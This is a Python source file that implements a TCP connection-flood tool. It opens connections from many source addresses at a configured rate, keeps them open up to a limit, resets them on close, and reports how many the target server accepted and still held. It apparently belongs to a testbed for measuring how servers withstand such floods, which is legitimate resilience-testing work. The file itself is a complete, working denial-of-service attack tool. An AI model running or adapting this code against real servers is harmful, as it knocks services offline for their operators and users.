"""A connection flood: real addresses, whole handshakes, then silence for as long as it lasts.

The kernel of the attackers' network makes the handshakes; nothing is ever written.  What has not
connected when its time is over was refused, or lost.
"""

import errno
import select
import socket
import time
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass
from ipaddress import ip_address
from itertools import takewhile
from struct import pack

_IP_BIND_ADDRESS_NO_PORT = 24  # linux/in.h
_RESET_AT_CLOSE = pack("=ii", 1, 0)  # struct linger: no TIME_WAIT is left behind
_NAP_S = 0.001
_AT_ONCE = 64  # attempts between two looks at what became of the others
_GIVE_UP_NS = 4_000_000_000  # a handshake that takes longer keeps its socket no more


@dataclass(frozen=True, slots=True)
class Crowd:
    """Attackers with real addresses; the rate is that of all together."""

    rate_per_s: float
    addresses: int
    """Of each family."""


@dataclass(frozen=True, slots=True)
class ConnectOrder:
    """All that the process of the attackers is told; times count from its start, ns."""

    sources: tuple[str, ...]
    targets: tuple[str, ...]
    port: int
    rate_per_s: float
    start_ns: int
    stop_ns: int
    most: int
    """Sockets that are open at a time."""
    cpu: int


@dataclass(frozen=True, slots=True)
class ConnectReport:
    """What became of the attempts; times are monotonic ns."""

    tried: int
    opened: int
    """Handshakes that the server completed."""
    held: int
    """Of these, connections that it still had at the end."""
    first_ns: int
    last_ns: int


class ConnectFlood:
    """Opens connections at a rate and keeps them all open."""

    def __init__(self, order: ConnectOrder) -> None:
        """Plan whom to connect to and from where; nothing is sent yet."""
        self._order = order
        self._pairs = list(_pairs(order.sources, order.targets))
        self._poll = select.epoll()
        self._under_way: dict[int, tuple[socket.socket, int]] = {}  # by descriptor, with its time
        self._open: list[socket.socket] = []
        self._tried = 0
        self._opened = 0

    def run(self, start_ns: int, stop_ns: int) -> ConnectReport:
        """Attack between two monotonic times, then reset everything."""
        first_ns = last_ns = 0
        while (now := time.monotonic_ns()) < stop_ns:
            due = max(0, int((now - start_ns) * self._order.rate_per_s / 1e9)) - self._tried
            for _ in range(min(due, self._room, _AT_ONCE)):
                first_ns = first_ns or now
                last_ns = now
                self._try_one(now)
            self._settle()
            if due < _AT_ONCE:
                time.sleep(_NAP_S)
        self._settle()
        held = sum(_lives(one) for one in self._open)
        self.close()
        return ConnectReport(self._tried, self._opened, held, first_ns, last_ns)

    def close(self) -> None:
        """Let go of everything."""
        for connection in self._open:
            connection.close()
        for connection, _ in self._under_way.values():
            connection.close()
        self._open.clear()
        self._under_way.clear()
        self._poll.close()

    @property
    def _room(self) -> int:
        return self._order.most - len(self._open) - len(self._under_way)

    def _try_one(self, now: int) -> None:
        source, target, family = self._pairs[self._tried % len(self._pairs)]
        self._tried += 1
        connection = socket.socket(family, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        connection.setsockopt(socket.IPPROTO_IP, _IP_BIND_ADDRESS_NO_PORT, 1)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _RESET_AT_CLOSE)
        try:
            connection.bind((source, 0))
            result = connection.connect_ex((target, self._order.port))
        except OSError as error:
            result = error.errno or errno.EIO
        if result not in {0, errno.EINPROGRESS}:
            connection.close()
            return
        self._under_way[connection.fileno()] = (connection, now)
        self._poll.register(connection, select.EPOLLOUT | select.EPOLLONESHOT)

    def _settle(self) -> None:
        """Sort out who has connected, who was refused, and who has waited for too long."""
        for descriptor, _ in self._poll.poll(0):
            connection, _ = self._under_way.pop(descriptor)
            if connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                connection.close()
                continue
            self._opened += 1
            self._open.append(connection)
        late = time.monotonic_ns() - _GIVE_UP_NS
        waiting = self._under_way.items()  # in order of time
        for descriptor, (connection, _) in list(takewhile(lambda one: one[1][1] < late, waiting)):
            del self._under_way[descriptor]
            connection.close()


def _pairs(sources: tuple[str, ...], targets: tuple[str, ...]) -> Iterator[tuple[str, str, int]]:
    """Yield each source with the target of its family."""
    by_version = {ip_address(target).version: target for target in targets}
    for source in sources:
        version = ip_address(source).version
        if version in by_version:
            family = socket.AF_INET if version == 4 else socket.AF_INET6
            yield source, by_version[version], family


def _lives(connection: socket.socket) -> bool:
    """Say whether the server has neither closed nor reset a connection, as far as we were told."""
    with suppress(BlockingIOError):
        try:
            return bool(connection.recv(1, socket.MSG_PEEK))
        except ConnectionError:
            return False
    return True
